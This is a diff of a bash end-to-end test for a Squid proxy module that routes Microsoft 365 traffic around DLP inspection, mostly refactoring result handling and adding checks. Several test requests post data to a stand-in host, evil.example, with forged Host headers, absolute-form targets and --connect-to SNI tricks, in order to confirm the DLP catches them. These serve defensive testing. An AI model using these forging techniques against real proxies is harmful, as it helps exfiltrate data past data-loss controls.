@@ -27,8 +27,8 @@
 #              forged SNI and Host) reach the DLP (reason=decrypted) and the
 #              evil origin gets no body the DLP did not see.
 #   sni        bump-all, Squid's default certificate checks, the shipped
-#              adaptation_meta X-O365bypass-SNI line, module in
-#              DecryptedRequests sni-bound: a genuine Microsoft 365 request
+#              (commented) adaptation_meta X-O365bypass-SNI line enabled,
+#              module in DecryptedRequests sni-bound: a genuine Microsoft 365 request
 #              is bypassed; a forged Host is refused by Squid (503) before
 #              any ICAP call; a forged Host under a certificate valid for
 #              both names reaches the module and is inspected (sni-mismatch);
@@ -44,8 +44,10 @@
 # Knobs: E2E_PHASES="rec fake" runs some phases; E2E_KEEP=1 keeps the temp dir.
 set -euo pipefail
 E2E_TLS_SELF="$(cd "$(dirname "$0")" && pwd)/$(basename "$0")"
-. "$(dirname "$E2E_TLS_SELF")/lib.sh"
-. "$(dirname "$E2E_TLS_SELF")/tls.sh"
+# shellcheck source=tests/e2e/lib.sh
+. "${E2E_TLS_SELF%/*}/lib.sh"
+# shellcheck source=tests/e2e/tls.sh
+. "${E2E_TLS_SELF%/*}/tls.sh"
 
 TLS_CONF="$top_srcdir/conf/squid-o365bypass-tls.conf"
 INTERCEPT_CONF="$top_srcdir/conf/squid-o365bypass-intercept.conf"
@@ -197,6 +199,21 @@ origin_got_body() {
 # origin_requests LOG PATH: how many requests for PATH that origin logged.
 origin_requests() { awk -v p="$2" '$4 == p { n++ } END { print n + 0 }' "$1" 2>/dev/null; }
 
+# ---- requests -------------------------------------------------------------------
+
+# send KEY URL CURL_ARGS...: tls_get, its results kept under KEY.
+send() {
+    local key=$1
+    shift
+    tls_get "$@"
+    R_CODE[$key]=$TLS_CODE R_PATH[$key]=$TLS_PATH R_ISSUER[$key]=$TLS_ISSUER R_BODY[$key]=$TLS_BODY
+}
+
+# use_result KEY: TLS_CODE TLS_PATH TLS_ISSUER TLS_BODY of that request again.
+use_result() {
+    TLS_CODE=${R_CODE[$1]} TLS_PATH=${R_PATH[$1]} TLS_ISSUER=${R_ISSUER[$1]} TLS_BODY=${R_BODY[$1]}
+}
+
 # ---- per-request checks ------------------------------------------------------
 
 # check_answer WHAT CODE PATH HOST METHOD URLPATH [BYTES]: the client's view.
@@ -214,6 +231,8 @@ check_answer() {
 check_spliced_connect() {
     local what="$1 $2" url="$2:443"
     check_eq splice "$(squid_field "$url" 8)" "$what: Squid's %ssl::bump_mode"
+    check_ge 1 "$(grep -c " CONNECT $url 200 splice " "$SQUID_DIR/access-shipped.log" || true)" \
+        "$what: the shipped log format shows the splice"
     check_prefix "bypass; set=${SPLICE_SET[$2]};" "$(module_decision REQMOD "$url")" "$what: module's CONNECT decision"
     check_eq 0 "$(dlp_count REQMOD "$url")" "$what: DLP REQMOD of the CONNECT"
     check_eq 0 "$(cicap_saw echo "https://$2/")" "$what: DLP lines for https://$2/"
@@ -231,6 +250,7 @@ check_bumped_inspected() {
     if [[ "$phase" == down ]]; then
         check_eq 0 "$(module_count REQMOD "$url")" "$what: module REQMOD (down)"
     else
+        check_prefix "inspect; reason=" "$(module_decision REQMOD "$host:443")" "$what: module's CONNECT decision"
         check_prefix "inspect; reason=decrypted" "$(module_decision REQMOD "$url")" "$what: module REQMOD decision"
         check_prefix "inspect; reason=decrypted" "$(module_decision RESPMOD "$url")" "$what: module RESPMOD decision"
     fi
@@ -249,19 +269,17 @@ phase_rec() {
     for host in "${SPLICE_HOSTS[@]}" "${BUMP_HOSTS[@]}"; do
         id="$phase-$host"
         make_body "$id"
-        tls_get "https://$host/e2e/$phase/get"
-        RESULT["$id get"]="$TLS_CODE|$TLS_PATH|$TLS_ISSUER|$TLS_BODY"
-        tls_get "https://$host/e2e/$phase/post" --data-binary "@$E2E_DIR/bodies/$id"
-        RESULT["$id post"]="$TLS_CODE|$TLS_PATH|$TLS_ISSUER|$TLS_BODY"
+        send "$id get" "https://$host/e2e/$phase/get"
+        send "$id post" "https://$host/e2e/$phase/post" --data-binary "@$E2E_DIR/bodies/$id"
     done
     log_freeze
     for host in "${SPLICE_HOSTS[@]}" "${BUMP_HOSTS[@]}"; do
         id="$phase-$host"
         local want=bumped
         [[ "$phase" == rec && -n "${SPLICE_SET[$host]:-}" ]] && want=spliced
-        restore_result "$id get"
+        use_result "$id get"
         check_answer "$phase $host GET" 200 "$want" "$host" GET "/e2e/$phase/get"
-        restore_result "$id post"
+        use_result "$id post"
         check_answer "$phase $host POST" 200 "$want" "$host" POST "/e2e/$phase/post" "${BODY_LEN[$id]}"
         if [[ "$want" == spliced ]]; then
             check_spliced_connect "$phase" "$host"
@@ -301,9 +319,6 @@ squid_logged_status() {
     squid_lines | awk -F'|' -v m="$1" -v u="$2" '$2 == m && $3 == u { s = $4 } END { print (s == "" ? "-" : s) }'
 }
 
-# restore_result KEY: TLS_CODE TLS_PATH TLS_ISSUER TLS_BODY of a request.
-restore_result() { IFS='|' read -r TLS_CODE TLS_PATH TLS_ISSUER TLS_BODY <<< "${RESULT[$1]}"; }
-
 phase_relaxed() {
     local base="https://outlook.office.com/e2e/relaxed"
     SQUID_SHIPPED=$TLS_CONF SQUID_MODULE_URL="icap://127.0.0.1:$CICAP_PORT/o365bypass"
@@ -313,22 +328,18 @@ phase_relaxed() {
     make_body relaxed-abs
     make_body relaxed-sni
     # 1: CONNECT evil.example, SNI evil.example, Host outlook.office.com.
-    tls_get "https://evil.example/e2e/relaxed/exfil" -H 'Host: outlook.office.com' \
+    send relaxed-host "https://evil.example/e2e/relaxed/exfil" -H 'Host: outlook.office.com' \
         --data-binary "@$E2E_DIR/bodies/relaxed-host"
-    RESULT[relaxed-host]="$TLS_CODE|$TLS_PATH|$TLS_ISSUER|$TLS_BODY"
     # 2: the same tunnel, absolute form: POST http://outlook.office.com:443/...
-    tls_get "https://evil.example/" --request-target "http://outlook.office.com:443/e2e/relaxed/exfil-abs" \
+    send relaxed-abs "https://evil.example/" --request-target "http://outlook.office.com:443/e2e/relaxed/exfil-abs" \
         -H 'Host: outlook.office.com' --data-binary "@$E2E_DIR/bodies/relaxed-abs"
-    RESULT[relaxed-abs]="$TLS_CODE|$TLS_PATH|$TLS_ISSUER|$TLS_BODY"
     # 3: CONNECT evil.example, SNI and Host outlook.office.com (the client
     #    chooses both; the relaxed Squid accepts evil's certificate for it and
     #    mimics it, so the client, the attacker's own, does not verify: -k).
-    tls_get "$base/exfil-sni" -k --connect-to outlook.office.com:443:evil.example:443 \
+    send relaxed-sni "$base/exfil-sni" -k --connect-to outlook.office.com:443:evil.example:443 \
         --data-binary "@$E2E_DIR/bodies/relaxed-sni"
-    RESULT[relaxed-sni]="$TLS_CODE|$TLS_PATH|$TLS_ISSUER|$TLS_BODY"
     # 4: a genuine Microsoft 365 request, bumped by this config.
-    tls_get "$base/genuine"
-    RESULT[relaxed-genuine]="$TLS_CODE|$TLS_PATH|$TLS_ISSUER|$TLS_BODY"
+    send relaxed-genuine "$base/genuine"
     log_freeze
     local id url
     for id in relaxed-host relaxed-abs relaxed-sni; do
@@ -337,7 +348,7 @@ phase_relaxed() {
             relaxed-abs) url="http://outlook.office.com:443/e2e/relaxed/exfil-abs" ;;
             relaxed-sni) url="$base/exfil-sni" ;;
         esac
-        restore_result "$id"
+        use_result "$id"
         check_eq 200 "$TLS_CODE" "$id: delivered (the reproducer is live)"
         check_eq bumped "$TLS_PATH" "$id: bumped"
         check_eq yes "$(origin_got_body "$EVIL_LOG" "$id")" "$id: the evil origin received it"
@@ -345,7 +356,7 @@ phase_relaxed() {
         check_ge 1 "$(dlp_count REQMOD "$url")" "$id: DLP REQMOD for $url"
         check_eq yes "$(dlp_got_body "$id")" "$id: the DLP received the body whole"
     done
-    restore_result relaxed-genuine
+    use_result relaxed-genuine
     check_answer "relaxed genuine" 200 bumped outlook.office.com GET /e2e/relaxed/genuine
     check_prefix "inspect; reason=decrypted" "$(module_decision REQMOD "$base/genuine")" "relaxed genuine: module REQMOD decision"
     check_ge 1 "$(dlp_count REQMOD "$base/genuine")" "relaxed genuine: DLP REQMOD"
@@ -362,25 +373,20 @@ phase_sni() {
     make_body sni-genuine
     make_body sni-503
     make_body sni-shared
-    tls_get "$base/get"
-    RESULT[sni-get]="$TLS_CODE|$TLS_PATH|$TLS_ISSUER|$TLS_BODY"
-    tls_get "$base/post" --data-binary "@$E2E_DIR/bodies/sni-genuine"
-    RESULT[sni-post]="$TLS_CODE|$TLS_PATH|$TLS_ISSUER|$TLS_BODY"
-    tls_get "https://www.example.org/e2e/sni/other"
-    RESULT[sni-other]="$TLS_CODE|$TLS_PATH|$TLS_ISSUER|$TLS_BODY"
+    send sni-get "$base/get"
+    send sni-post "$base/post" --data-binary "@$E2E_DIR/bodies/sni-genuine"
+    send sni-other "https://www.example.org/e2e/sni/other"
     # Forged Host, certificate valid for evil.example only: Squid refuses.
-    tls_get "https://evil.example/e2e/sni/exfil-503" -H 'Host: outlook.office.com' \
+    send sni-503 "https://evil.example/e2e/sni/exfil-503" -H 'Host: outlook.office.com' \
         --data-binary "@$E2E_DIR/bodies/sni-503"
-    RESULT[sni-503]="$TLS_CODE|$TLS_PATH|$TLS_ISSUER|$TLS_BODY"
     # Forged Host, the origin's certificate is valid for both names (a shared
     # certificate): Squid's check passes, the module must catch it.
-    tls_get "https://cdn.evil.example/e2e/sni/exfil-shared" -H 'Host: outlook.office.com' \
+    send sni-shared "https://cdn.evil.example/e2e/sni/exfil-shared" -H 'Host: outlook.office.com' \
         --data-binary "@$E2E_DIR/bodies/sni-shared"
-    RESULT[sni-shared]="$TLS_CODE|$TLS_PATH|$TLS_ISSUER|$TLS_BODY"
     log_freeze
-    restore_result sni-get
+    use_result sni-get
     check_answer "sni genuine GET" 200 bumped outlook.office.com GET /e2e/sni/get
-    restore_result sni-post
+    use_result sni-post
     check_answer "sni genuine POST" 200 bumped outlook.office.com POST /e2e/sni/post "${BODY_LEN[sni-genuine]}"
     local url
     for url in "$base/get" "$base/post"; do
@@ -390,14 +396,14 @@ phase_sni() {
         check_eq 0 "$(dlp_count RESPMOD "$url")" "sni genuine $url: DLP RESPMOD"
     done
     check_eq outlook.office.com "$(sni_meta_seen "$base/get")" "sni genuine: X-O365bypass-SNI the module received"
-    restore_result sni-other
+    use_result sni-other
     check_answer "sni www.example.org" 200 bumped www.example.org GET /e2e/sni/other
     check_ge 1 "$(dlp_count REQMOD https://www.example.org/e2e/sni/other)" "sni www.example.org: DLP REQMOD"
-    restore_result sni-503
+    use_result sni-503
     check_eq 503 "$TLS_CODE" "sni forged Host (evil's own certificate): Squid refuses"
     check_eq 0 "$(cicap_saw o365bypass /e2e/sni/exfil-503)" "sni forged Host 503: no ICAP request made"
     check_eq 0 "$(origin_requests "$EVIL_LOG" /e2e/sni/exfil-503)" "sni forged Host 503: the evil origin got nothing"
-    restore_result sni-shared
+    use_result sni-shared
     check_eq 200 "$TLS_CODE" "sni forged Host (shared certificate): delivered"
     check_prefix "inspect; reason=sni-mismatch" "$(module_decision REQMOD "$base/exfil-shared")" "sni forged Host (shared certificate): module REQMOD decision"
     check_prefix "inspect; reason=sni-mismatch" "$(module_decision RESPMOD "$base/exfil-shared")" "sni forged Host (shared certificate): module RESPMOD decision"
@@ -440,6 +446,7 @@ restore_cicap() {
     CICAP_PID=$1 CICAP_DIR=$dir
     CICAP_PORT=$(sed -n 's/^Port 127\.0\.0\.1://p' "$dir/c-icap.conf")
     CICAP_ACCESS_LOG="$dir/access.log" CICAP_SERVER_LOG="$dir/server.log" CICAP_CTL="$dir/c-icap.ctl"
+    export CICAP_PORT CICAP_PID CICAP_ACCESS_LOG CICAP_SERVER_LOG CICAP_CTL CICAP_DIR
 }
 
 phase_fake() {
@@ -447,12 +454,9 @@ phase_fake() {
     SQUID_EDITS=("$SPLICE_LINE" "" "$PEEK_LINE" "$PEEK_LINE"$'\n''ssl_bump splice o365_svc !dlp_svc')
     SQUID_EXTRA=$'acl SSL_ports port 993\nacl Safe_ports port 993'
     start_phase_squid fake
-    tls_get "https://outlook.office365.com:993/e2e/fake/imaps"
-    RESULT[fake-993]="$TLS_CODE|$TLS_PATH|$TLS_ISSUER|$TLS_BODY"
-    tls_get "https://outlook.office.com/e2e/fake/https"
-    RESULT[fake-443]="$TLS_CODE|$TLS_PATH|$TLS_ISSUER|$TLS_BODY"
-    tls_get "https://www.example.org:993/e2e/fake/other"
-    RESULT[fake-other]="$TLS_CODE|$TLS_PATH|$TLS_ISSUER|$TLS_BODY"
+    send fake-993 "https://outlook.office365.com:993/e2e/fake/imaps"
+    send fake-443 "https://outlook.office.com/e2e/fake/https"
+    send fake-other "https://www.example.org:993/e2e/fake/other"
     log_freeze
     local key host port set url
     for key in fake-993 fake-443; do
@@ -460,14 +464,14 @@ phase_fake() {
             fake-993) host=outlook.office365.com port=993 set=2 url=/e2e/fake/imaps ;;
             fake-443) host=outlook.office.com port=443 set=1 url=/e2e/fake/https ;;
         esac
-        restore_result "$key"
+        use_result "$key"
         check_answer "fake $host:$port" 200 spliced "$host$([[ $port == 443 ]] || echo ":$port")" GET "$url"
         check_eq 2 "$(module_count REQMOD "$host:$port")" "fake $host:$port: module saw the CONNECT and Squid's generated one"
         check_prefix "bypass; set=$set;" "$(module_decision REQMOD "$host:$port")" "fake $host:$port: module decision on the generated CONNECT"
         check_eq 0 "$(dlp_count REQMOD "$host:$port")" "fake $host:$port: DLP REQMOD (real or generated CONNECT)"
         check_eq splice "$(squid_field "$host:$port" 8)" "fake $host:$port: Squid's %ssl::bump_mode"
     done
-    restore_result fake-other
+    use_result fake-other
     check_answer "fake www.example.org:993" 200 bumped "www.example.org:993" GET /e2e/fake/other
     check_ge 1 "$(dlp_count REQMOD https://www.example.org:993/e2e/fake/other)" "fake www.example.org:993: DLP REQMOD"
     squid_stop
@@ -483,18 +487,18 @@ phase_intercept() {
     if ! ip netns add "$ns" 2> "$E2E_DIR/netns.err"; then
         intercept_skipped "cannot create a network namespace: $(head -n 1 "$E2E_DIR/netns.err")"; return 0
     fi
-    e2e_on_exit ip netns del "$ns"
+    e2e_on_exit netns_del "$ns"
     if ! ip netns exec "$ns" ip link set lo up 2>> "$E2E_DIR/netns.err" ||
        ! ip netns exec "$ns" iptables -t nat -A OUTPUT -p tcp --dport 1 -m owner --uid-owner proxy \
             -j REDIRECT --to-ports 2 2>> "$E2E_DIR/netns.err"; then
         intercept_skipped "no loopback NAT redirect in the namespace: $(tail -n 1 "$E2E_DIR/netns.err")"
-        ip netns del "$ns"; return 0
+        netns_del "$ns"; return 0
     fi
     ip netns exec "$ns" iptables -t nat -F OUTPUT
     e2e_log "intercept: running in network namespace $ns"
     E2E_TLS_INNER=intercept E2E_TLS_REPORT=$report timeout 300 \
         ip netns exec "$ns" bash "$E2E_TLS_SELF" || rc=$?
-    ip netns del "$ns" 2>/dev/null || true
+    netns_del "$ns"
     case $rc in
         0|1) ;;
         77) intercept_skipped "the run inside the namespace skipped (see above)"; return 0 ;;
@@ -505,12 +509,14 @@ phase_intercept() {
     E2E_CHECKS=$(( E2E_CHECKS + checks ))
     E2E_FAILED_CHECKS=$(( E2E_FAILED_CHECKS + failed ))
     (( failed == 0 )) || printf '  not ok: intercept: %d of %d checks failed (see above)\n' "$failed" "$checks" >&2
-    SUMMARY+=("intercept: $checks checks in namespace $ns, $failed failed")
+    PHASE_NOTE="in network namespace $ns"
 }
+
+netns_del() { ip netns del "$1" 2>/dev/null || true; }
 
 intercept_skipped() {
     printf 'SKIP (intercept phase only): %s\n' "$1" >&2
-    SUMMARY+=("intercept: SKIPPED: $1")
+    PHASE_NOTE="SKIPPED: $1"
 }
 
 # Runs inside the namespace (a fresh e2e run of its own: c-icap, origins,
@@ -613,11 +619,12 @@ print_summary() {
 
 main() {
     local phase before t0
-    declare -gA RESULT=() BODY_LEN=() BODY_SHA=()
+    declare -gA R_CODE=() R_PATH=() R_ISSUER=() R_BODY=() BODY_LEN=() BODY_SHA=()
     declare -ga SUMMARY=()
+    PHASE_NOTE=""
     if [[ "${E2E_TLS_INNER:-}" == intercept ]]; then intercept_inner; return; fi
+    tls_require    # before e2e_init: a skip leaves no temp dir behind
     e2e_init tls
-    tls_require
     [[ -f "$O3B_MODULE" ]] || hard_error "module not built: $O3B_MODULE"
     mkdir -p "$E2E_DIR/bodies"
     check_shipped_files
@@ -625,10 +632,9 @@ main() {
     tls_issue evil evil.example
     tls_issue shared cdn.evil.example outlook.office.com
     tls_certgen_db
-    # shellcheck disable=SC2046 # tls_cert_args prints separate words
     start_origin_in origin auto --port 80 --tls-port 443 --tls-port 993 "${TLS_ORIGIN_CERT_ARGS[@]}"
     MAIN_ADDR=$ORIGIN_ADDR MAIN_LOG=$ORIGIN_LOG
-    # shellcheck disable=SC2046
+    # shellcheck disable=SC2046 # tls_cert_args prints separate words
     start_origin_in evil auto-66 --tls-port 443 $(tls_cert_args evil) \
         --sni-cert "cdn.evil.example=$TLS_PKI/shared.pem:$TLS_PKI/shared.key"
     EVIL_ADDR=$ORIGIN_ADDR EVIL_LOG=$ORIGIN_LOG
@@ -643,8 +649,9 @@ main() {
             relaxed|sni|fake|intercept) "phase_$phase" ;;
             *) hard_error "unknown phase '$phase' (phases: $ALL_PHASES)" ;;
         esac
-        [[ "$phase" == intercept ]] ||
-            SUMMARY+=("$(printf '%-9s %3d checks, %3d s' "$phase" $(( E2E_CHECKS - before )) $(( SECONDS - t0 )))")
+        SUMMARY+=("$(printf '%-9s %3d checks, %3d s%s' "$phase" $(( E2E_CHECKS - before )) \
+            $(( SECONDS - t0 )) "${PHASE_NOTE:+ ($PHASE_NOTE)}")")
+        PHASE_NOTE=
     done
     print_summary
     check_done
